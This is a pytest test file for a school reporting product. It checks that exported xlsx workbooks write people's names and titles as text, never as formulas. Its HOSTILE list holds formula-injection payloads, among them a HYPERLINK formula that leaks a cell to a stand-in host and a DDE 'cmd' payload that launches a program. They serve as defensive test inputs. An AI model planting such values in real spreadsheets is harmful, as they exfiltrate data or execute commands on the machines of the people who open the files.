"""Exports never write a person's text as a formula: every xlsx the product writes, generated from a school whose
names and titles are hostile, holds no formula cell but the results template's own «Сумма» and «Отметка»."""

from __future__ import annotations

import io
import itertools
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook

from app.demo.school import DemoSchool
from forms.grid import LABELS, work_spec
from forms.templates import RESULTS_TITLE, sheet_template, work_template
from reports import results_facts
from reports.export.xlsx import olympiad_xlsx, spravka_xlsx, staff_xlsx, work_xlsx
from reports.spravka.narrative import work_report
from reports.spravka.school import class_spravka, parallel_spravka, school_spravka
from reports.spravka.teacher import teacher_spravka
from sheets_schema import SCHEMA, Workbook, validate_workbook
from sync.snapshots import write_xlsx

HOSTILE = ('=HYPERLINK("http://x.example/?leak="&B2,"x")', "=1+1", "+1", "-1+2", "@SUM(A1)", "#N/A",
           "=cmd|' /C calc'!A0", "ctrl\x01char")
# free-text cells that travel into templates, справки, staff and olympiad workbooks
TARGETS = {"students": ("last_name", "first_name"), "teachers": ("last_name", "first_name"), "subjects": ("name",),
           "works": ("title",), "tasks": ("element",), "departments": ("name",), "courses": ("title",),
           "portfolio": ("title", "result")}


Grids = dict[str, list[list[str]]]


@pytest.fixture(scope="module")
def hostile_grids(demo_school: DemoSchool) -> Grids:
    grids = {title: [list(r) for r in grid] for title, grid in demo_school.grids.items()}
    texts = itertools.cycle(HOSTILE)
    for key, fields in TARGETS.items():
        grid = grids[SCHEMA[key].title]
        headers = {f.key: f.header for f in SCHEMA[key].fields}
        cols = [grid[0].index(headers[f]) for f in fields]
        for row in grid[1:]:
            for c in cols:
                row.extend([""] * (c + 1 - len(row)))
                row[c] = next(texts)
    return grids


@pytest.fixture(scope="module")
def hostile(hostile_grids: Grids) -> Workbook:
    return validate_workbook(SCHEMA, hostile_grids)


def _formulas(data: bytes) -> Iterator[tuple[str, str, str]]:
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.data_type != "s"):
                    yield ws.title, cell.coordinate, str(cell.value)


def _texts(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


def _own_columns(data: bytes) -> set[str]:
    """Column letters of «Сумма» and «Отметка» in the results template (their cells are the product's formulas)."""
    ws = load_workbook(io.BytesIO(data))[RESULTS_TITLE]
    return {c.column_letter for c in ws[3] if c.value in (LABELS["total"], LABELS["mark"])}


def _exports(wb: Workbook, grids: Grids) -> dict[str, bytes]:
    frames, facts = wb.frames, results_facts(wb)
    wrote = facts[(facts["present"] == "да") & facts["mark"].notna()]
    work_id = str(wrote["work_id"].iloc[0])
    class_id = str(wrote.loc[wrote["work_id"] == work_id, "class_id"].iloc[0])
    spec = work_spec(frames, work_id)
    assert spec is not None
    st = frames["students"]
    mine = st[st["class_id"].astype(str) == class_id]
    students = [(str(i), f"{a} {b}") for i, a, b in zip(mine["id"], mine["last_name"], mine["first_name"],
                                                         strict=True)]
    res = frames["results"]
    existing = {str(r["student_id"]): {"present": "да", "scores": "=1+1 @SUM(A1)"} for _, r in
                res[res["work_id"].astype(str) == work_id].iterrows()}
    teacher = str(frames["teachers"]["id"].iloc[0])
    out = {
        "results template": work_template(spec, class_id, "=HYPERLINK(\"x\")", students, existing),
        "work справка": work_xlsx(work_report(facts, frames, work_id)),
        "class справка": spravka_xlsx(class_spravka(facts, frames, class_id)),
        "parallel справка": spravka_xlsx(parallel_spravka(facts, frames, spec.parallel)),
        "school справка": spravka_xlsx(school_spravka(facts, frames)),
        "teacher справка": spravka_xlsx(teacher_spravka(facts, frames, teacher)),
        "staff": staff_xlsx(frames, "2026-05-01"),
        "olympiads": olympiad_xlsx(frames),
    }
    for sheet in SCHEMA:
        grid = grids[sheet.title]
        keys = {f.header: f.key for f in sheet.fields}
        rows = [{keys.get(h, h): v for h, v in zip(grid[0], r, strict=False)} for r in grid[1:61]]
        refs = {f.ref: {h: h for h in HOSTILE} for f in sheet.fields if f.ref}
        out[f"template {sheet.key}"] = sheet_template(SCHEMA, sheet.key, refs, rows)
    return out


@pytest.fixture(scope="module")
def exports(hostile: Workbook, hostile_grids: Grids) -> dict[str, bytes]:
    return _exports(hostile, hostile_grids)


def test_no_exported_xlsx_holds_a_formula_from_a_person_s_text(exports: dict[str, bytes],
                                                                demo_school: DemoSchool) -> None:
    files = dict(exports)
    grids = {t: [list(r) for r in g] for t, g in demo_school.grids.items()}
    grids["Обучающиеся"][1][1:3] = list(HOSTILE[:2])
    snapshot = io.BytesIO()
    write_xlsx(snapshot, grids)
    files["snapshot workbook.xlsx"] = snapshot.getvalue()
    wrong, missing = {}, []
    for name, data in files.items():
        found = list(_formulas(data))
        if name == "results template":  # the template's own: «Сумма» and «Отметка» of each student row
            own = _own_columns(data)
            found = [f for f in found if not (f[0] == RESULTS_TITLE and f[1].rstrip("0123456789") in own
                                              and f[2].startswith("=IF("))]
        if found:
            wrong[name] = found[:3]
        if not any(t.startswith(("=HYPERLINK", "=1+1", "=cmd")) for t in _texts(data)):
            missing.append(name)  # the hostile text must have reached the file, as text
    assert wrong == {}
    assert missing == []


def test_the_results_template_keeps_its_own_formulas_and_writes_names_as_text(exports: dict[str, bytes]) -> None:
    data = exports["results template"]
    ws = load_workbook(io.BytesIO(data))[RESULTS_TITLE]
    assert ws["A1"].data_type == "s" and ws["A1"].value.startswith(("=", "+", "-", "@", "#", "ctrl"))
    own = [c for row in ws.iter_rows(min_row=4) for c in row if c.data_type == "f"]
    assert own and {c.column_letter for c in own} == _own_columns(data)
    names = [c.value for c in ws["B"][3:]]
    assert any(str(n).startswith("=") for n in names) and all(c.data_type == "s" for c in ws["B"][3:])
